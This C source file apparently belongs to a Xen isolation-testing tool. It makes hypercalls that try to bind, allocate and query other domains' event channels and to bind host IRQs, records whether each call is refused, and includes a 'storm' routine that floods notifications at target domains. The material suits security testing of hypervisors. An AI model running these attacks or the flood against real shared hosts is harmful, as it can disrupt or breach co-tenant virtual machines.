// SPDX-License-Identifier: GPL-2.0-or-later
/*
 * attack_events.c - event channels (event_channel.h): others' ports, and
 * storms on the attacker's own.
 */
#include <errno.h>
#include <stdio.h>
#include <string.h>
#include <time.h>

#include "attack.h"

#define __XEN_TOOLS__ 1
#include <xen/xen.h>
#include <xen/event_channel.h>

#define PORTS		4096u
#define OWN_PORTS	1024u

static long event_op(unsigned int op, void *arg)
{
	return xen_call(__HYPERVISOR_event_channel_op, op, xva(arg), 0, 0, 0);
}

static void close_port(uint32_t port)
{
	struct evtchn_close *op = (void *)(xbuf + PAGE_BYTES);

	op->port = port;
	event_op(EVTCHNOP_close, op);
}

static void at_target(const struct target *t)
{
	struct evtchn_bind_interdomain *bind = (void *)xbuf;
	struct evtchn_alloc_unbound *alloc = (void *)xbuf;
	struct evtchn_status *status = (void *)xbuf;
	struct attempt *a;
	long ret;

	a = attempt_begin("event.bind_interdomain", t);
	for (uint32_t port = 0; port < PORTS; port++) {
		memset(bind, 0, sizeof(*bind));
		bind->remote_dom = t->domid;
		bind->remote_port = port;
		ret = event_op(EVTCHNOP_bind_interdomain, bind);
		attempt_errno(a, port, ret);
		if (ret >= 0)
			close_port(bind->local_port);
	}
	attempt_end(a);

	/*
	 * A port of the target's: for the attacker, for the target, for dom0.
	 */
	a = attempt_begin("event.alloc_unbound", t);
	for (unsigned int i = 0; i < 3; i++) {
		memset(alloc, 0, sizeof(*alloc));
		alloc->dom = t->domid;
		alloc->remote_dom = i == 0 ? DOMID_SELF : i == 1 ? t->domid : 0;
		attempt_errno(a, i, event_op(EVTCHNOP_alloc_unbound, alloc));
	}
	attempt_end(a);

	a = attempt_begin("event.status", t);
	for (uint32_t port = 0; port < PORTS; port++) {
		memset(status, 0, sizeof(*status));
		status->dom = t->domid;
		status->port = port;
		ret = event_op(EVTCHNOP_status, status);
		attempt_errno(a, port, ret);
	}
	attempt_end(a);
}

/* Interrupts of the host's, and of the hypervisor's own making. */
static void at_host(void)
{
	static const struct target host = { .role = "host" };
	struct evtchn_bind_virq *virq = (void *)xbuf;
	struct evtchn_bind_pirq *pirq = (void *)xbuf;
	struct attempt *a;
	long ret;

	a = attempt_begin("event.bind_pirq", &host);
	for (uint32_t i = 0; i < 64; i++) {
		memset(pirq, 0, sizeof(*pirq));
		pirq->pirq = i;
		ret = event_op(EVTCHNOP_bind_pirq, pirq);
		attempt_errno(a, i, ret);
		if (ret >= 0)
			close_port(pirq->port);
	}
	attempt_end(a);

	a = attempt_begin("event.bind_virq", &host);
	for (uint32_t i = 0; i < 24; i++) {
		memset(virq, 0, sizeof(*virq));
		virq->virq = i;
		ret = event_op(EVTCHNOP_bind_virq, virq);
		attempt_errno(a, i, ret);
		if (ret >= 0)
			close_port(virq->port);
	}
	attempt_end(a);
}

void attack_events(void)
{
	xen_open();
	for (unsigned int i = 0; i < nr_targets; i++)
		at_target(&targets[i]);
	at_host();
}

/*
 * Events on every channel that this domain has to a target, without end.  With
 * FLASK it may not ask where a channel of its own leads: then on all it has.
 */
void attack_storm(unsigned int seconds)
{
	struct evtchn_status *status;
	struct evtchn_send *send;

	xen_open();
	status = (void *)xbuf;
	send = (void *)(xbuf + PAGE_BYTES);
	for (unsigned int n = 0; n < nr_targets; n++) {
		struct attempt *a = attempt_begin("event.storm", &targets[n]);
		uint32_t port[OWN_PORTS];
		unsigned int nr = 0;
		time_t end = time(NULL) + (time_t)seconds;

		for (uint32_t i = 1; i < OWN_PORTS; i++) {
			memset(status, 0, sizeof(*status));
			status->dom = DOMID_SELF;
			status->port = i;
			send->port = i;
			if (event_op(EVTCHNOP_status, status) ?
			    !event_op(EVTCHNOP_send, send) :
			    status->status == EVTCHNSTAT_interdomain &&
			    status->u.interdomain.dom == targets[n].domid)
				port[nr++] = i;
		}
		while (nr && time(NULL) < end) {
			for (unsigned int i = 0; i < nr; i++) {
				send->port = port[i];
				attempt_errno(a, port[i],
					      event_op(EVTCHNOP_send, send));
			}
		}
		attempt_end(a);
	}
}
